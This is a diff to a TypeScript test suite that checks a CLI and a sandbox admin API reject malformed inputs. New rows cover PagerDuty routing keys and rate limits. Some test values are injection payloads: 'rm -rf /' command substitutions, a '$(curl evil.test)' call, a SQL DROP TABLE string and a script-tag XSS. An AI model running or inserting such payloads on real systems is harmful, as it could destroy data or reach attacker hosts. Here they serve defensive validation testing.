@@ -44,6 +44,7 @@ const CLI_ROWS: CliRow[] = [
   ['src/codec/server.ts', [], /PAYLOAD_KEY: must be 32 bytes/, { PAYLOAD_KEY: 'k1:c2hvcnQ=' }],
   ['src/main.ts', [], /TEMPORAL_UI_PORT: .*expected number, received NaN/, { TEMPORAL_UI_PORT: '<script>' }],
   ['src/worker/index.ts', [], /DEPLOY_ADAPTER: .*expected one of "vercel"/, { DEPLOY_ADAPTER: 'ftp; rm -rf /' }],
+  ['src/worker/index.ts', [], /PAGERDUTY_ROUTING_KEYS\.auth-oncall: must be a 32-character Events API v2 integration key/, { PAGERDUTY_ROUTING_KEYS: '{"auth-oncall":"$(curl evil.test)"}' }],
 ];
 
 describe.concurrent('a CLI refuses a malformed argument with one line naming it', () => {
@@ -90,8 +91,9 @@ async function send(base: string, method: string, path: string, body?: unknown, 
 async function sandboxState(): Promise<unknown> {
   const overview = (await send(sandbox.url, 'GET', '/__sandbox')).body as Record<string, unknown>;
   const stats = (await send(sandbox.url, 'GET', '/__sandbox/stats')).body;
+  const pagerduty = (await send(sandbox.url, 'GET', '/__sandbox/pagerduty')).body;
   const { faults, rateLimit, outage, webhooks, app, keys, seed } = overview;
-  return { faults, rateLimit, outage, webhooks, app, keys, seed, stats };
+  return { faults, rateLimit, outage, webhooks, app, keys, seed, stats, pagerduty };
 }
 
 /** method, path, body (a string or Buffer is sent as it is), the field named, what the message says; `contentType` when not JSON. */
@@ -113,6 +115,9 @@ const ADMIN_ROWS: AdminRow[] = [
   ['PUT', '/__sandbox/app', { sdkVersion: '$(rm -rf /)' }, /^sdkVersion$/, /must be a semver version/],
   ['PUT', '/__sandbox/clock', { skewMs: '5m' }, /^skewMs$/, /expected number, received string/],
   ['PUT', '/__sandbox/webhooks', { url: '<script>alert(1)</script>' }, /^url$/, /Invalid URL/],
+  ['PUT', '/__sandbox/pagerduty', { routingKeys: ["R0212'; DROP TABLE services;--"] }, /^routingKeys\.0$/, /must be 32 letters or digits/],
+  ['PUT', '/__sandbox/pagerduty', { failNext: { status: 418, count: 1 } }, /^failNext/, /Invalid input/],
+  ['PUT', '/__sandbox/pagerduty', { rateLimitPerMinute: 0 }, /^rateLimitPerMinute$/, /Too small/],
   ['GET', '/__sandbox/audit?limit=lots', undefined, /^limit$/, /expected number, received NaN/],
   ['GET', '/__sandbox/sessions?status=zombie', undefined, /^status$/, /expected one of "active"/],
   ['POST', '/__sandbox/webhooks/replay', { eventIds: [TEN_KB] }, /^eventIds\.0$/, /Too big: expected string to have <=100 characters/],
